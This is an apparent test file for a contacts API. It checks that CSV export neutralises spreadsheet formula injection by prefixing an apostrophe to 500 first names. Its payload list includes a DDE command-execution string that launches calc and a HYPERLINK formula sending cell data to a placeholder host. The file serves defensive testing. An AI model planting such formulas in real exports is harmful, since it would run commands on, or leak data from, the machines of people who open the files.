import assert from 'node:assert/strict';
import { recordsOfCsv } from '../support/csv.ts';
import { describeOnEachDatabase } from '../support/databases.ts';
import { startSidecar, type TestSidecar } from '../support/sidecar.ts';

describeOnEachDatabase('The export of contacts to spreadsheets', (product) => {
  let sidecar: TestSidecar;
  before(async () => {
    sidecar = await startSidecar(product);
  });
  after(() => sidecar.stop());

  it('has an apostrophe before each of 500 texts that a spreadsheet would run', async () => {
    const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '"=', "'=", '" +', '\'" @', '"\t='];
    const bodies = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://a.example?"&A1)', 'SUM(A1:A9)'];
    const texts = Array.from({ length: 500 }, (_, at) => {
      const start = starts[at % starts.length];
      return `${start}${bodies[at % bodies.length]}${at}`;
    });
    for (let at = 0; at < texts.length; at += 100) {
      const batch = texts.slice(at, at + 100).map((text) => ({ firstname: text, lastname: 'Low' }));
      await sidecar.api('POST', '/api/contacts/batch/new', batch);
    }
    const records = recordsOfCsv((await sidecar.api('GET', '/api/contacts/export')).body);
    assert.deepEqual(
      records.map(({ firstname }) => firstname),
      texts.map((text) => `'${text}`),
    );
  });
});
